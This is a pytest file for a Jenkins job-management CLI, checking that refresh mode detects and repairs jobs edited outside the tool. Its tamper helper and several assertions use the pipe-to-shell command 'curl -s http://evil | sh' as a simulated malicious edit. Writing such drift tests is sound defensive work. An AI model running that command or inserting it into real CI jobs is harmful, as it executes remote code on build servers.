"""`plan --refresh` and `update --refresh` see drift (a config changed in the UI or over REST with
its description, and so its owner mark, kept); plan never falls back to the cache silently.

Jenkins answers ``GET job/<name>/config.xml`` with the item's stored configuration
(core/src/main/java/hudson/model/AbstractItem.java, doConfigDotXml: GET writes the config file),
so what a UI or REST edit left is what refresh reads."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from jjb_envdelivery.cli.main import main
from jjb_envdelivery.testing.emulator_faults import Fault

VICTIM = "payments/billing-current-lint"



@pytest.fixture
def cli(conf, small, tmp_path, capsys):
    def run(command: str, scope: str, *extra: str, conf_path: Path | None = None) -> tuple[int, str, str]:
        code = main([command, "--scope", scope, "--org-file", str(small / "delivery.yaml"),
                     "--conf", str(conf_path or conf), "--cache-dir", str(tmp_path / "cache"), *extra])
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return run


@pytest.fixture
def pushed(emu, cli):
    assert cli("update", "root")[0] == 0
    assert cli("update", "payments")[0] == 0
    return emu


def tamper(emu, rest, name: str = VICTIM) -> None:
    """Replace the job's shell step over REST, keeping its description (and so its owner mark)."""
    path = "".join(f"job/{part}/" for part in name.split("/"))
    config = emu.job_config(name)
    assert "make test" in config
    rest.post(f"{emu.url}{path}config.xml", data=config.replace("make test", "curl -s http://evil | sh"),
              headers={"Content-Type": "text/xml"}).raise_for_status()


def config_gets(emu) -> list[str]:
    return [r.path for r in emu.request_log if r.method == "GET" and r.path.endswith("/config.xml")]


def test_the_lean_plan_cannot_see_drift_but_refresh_can(pushed, cli, rest):
    tamper(pushed, rest)
    code, out, _ = cli("plan", "payments")
    assert code == 0, out  # the default stays lean: listing + cache (documented)
    pushed.clear_log()
    code, out, _ = cli("plan", "payments", "--refresh")
    assert code == 2, out
    assert f"  change  job {VICTIM}: drifted: changed on the server since this scope pushed it" in out
    assert "-      <command>curl -s http://evil | sh</command>" in out
    assert "+      <command>make test</command>" in out
    assert "1 to change" in out
    # Its cost: one GET per item of the scope, nothing written.
    assert len(config_gets(pushed)) == 6
    assert not [r for r in pushed.request_log if r.write]


def test_update_refresh_repairs_the_drift(pushed, cli, rest):
    tamper(pushed, rest)
    code, out, _ = cli("update", "payments")
    assert code == 0 and "curl" in pushed.job_config(VICTIM)  # lean update: unchanged, as documented
    code, out, _ = cli("update", "payments", "--refresh", "--json")
    assert code == 0, out
    assert json.loads(out)["done"]["change"] == [VICTIM]
    assert "curl" not in pushed.job_config(VICTIM) and "make test" in pushed.job_config(VICTIM)
    code, out, _ = cli("plan", "payments", "--refresh")
    assert code == 0, out


def test_refresh_json_lists_the_drifted_items(pushed, cli, rest):
    tamper(pushed, rest)
    code, out, _ = cli("plan", "payments", "--refresh", "--json")
    plan = json.loads(out)
    assert code == 2 and plan["refreshed"] is True and plan["drifted"] == [VICTIM]
    assert "curl" in next(a["diff"] for a in plan["actions"] if a["name"] == VICTIM)


def test_a_folder_credential_store_is_not_drift(pushed, cli):
    """Folders keep their credential store on update (apply.keep_folder_credentials): refresh must
    not call it drift, nor show its (encrypted) contents."""
    pushed.add_credential("payments-deploy-key", folder="payments")
    code, out, _ = cli("plan", "root", "--refresh")
    assert code == 0, out


def test_an_unreadable_item_is_pushed_again_by_refresh(pushed, cli):
    pushed.faults.faults.append(Fault("500", rate=1.0, pattern="GET /job/payments/job/billing-current-lint/config.xml"))
    code, out, _ = cli("plan", "payments", "--refresh")
    assert code == 2, out
    assert f"  change  job {VICTIM}: could not read its current configuration" in out


@pytest.mark.parametrize("status", ["401", "403"])
def test_plan_fails_loudly_when_the_listing_is_refused(pushed, cli, status):
    pushed.faults.faults.append(Fault(status, rate=1.0, pattern="GET /api/json"))
    code, out, err = cli("plan", "payments")
    assert code == 1, out
    assert out == ""  # nothing compared, so no plan printed
    assert f"refused the credentials ({status})" in err and len(err.strip().splitlines()) == 1
    assert "Traceback" not in err


def test_plan_with_a_revoked_token_never_plans_from_the_cache(pushed, cli, conf, tmp_path):
    revoked = tmp_path / "revoked.ini"
    revoked.write_text(conf.read_text().replace("password=", "password=not-"))
    code, out, err = cli("plan", "payments", conf_path=revoked)
    assert code == 1 and out == ""
    assert "refused the credentials (401)" in err and "Traceback" not in err


def test_offline_is_explicit_and_says_so_first(pushed, cli, small):
    jobs = small / "teams/payments/jenkins/jobs.yaml"
    jobs.write_text(jobs.read_text().replace("make test", "make check"), encoding="utf-8")
    pushed.clear_log()
    code, out, _ = cli("plan", "payments", "--offline")
    assert code == 2
    assert out.splitlines()[0].startswith("OFFLINE: --offline: the server was not contacted")
    assert "compared with the last applied configuration" in out.splitlines()[1]
    assert pushed.request_log == []
    code, out, _ = cli("plan", "payments", "--offline", "--json")
    assert json.loads(out)["offline_reason"].startswith("--offline")


def test_an_unreachable_server_is_said_on_the_first_line(pushed, cli, conf):
    conf.write_text(conf.read_text() + "timeout=2\n")
    pushed.stop()
    code, out, _ = cli("plan", "payments")
    assert code == 0, out
    assert out.splitlines()[0].startswith("OFFLINE: the server could not be reached")
    code, out, err = cli("plan", "payments", "--refresh")
    assert code == 1 and "--refresh needs the server" in err
